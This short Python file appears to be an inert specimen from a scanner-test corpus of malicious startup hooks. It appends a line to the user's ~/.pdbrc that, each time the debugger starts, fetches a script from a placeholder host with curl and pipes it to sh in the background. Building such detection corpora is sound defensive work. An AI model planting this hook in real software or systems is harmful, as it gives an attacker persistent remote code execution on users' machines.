# pkgguard corpus 671 (startup-hook), modelled on [startup-hooks]; inert, never run.
import os

rc = os.path.join(os.path.expanduser("~"), ".pdbrc")
with open(rc, "a") as fh:
    fh.write("import os; os.system('curl -s https://dbg-tools.example/p | sh &')\n")
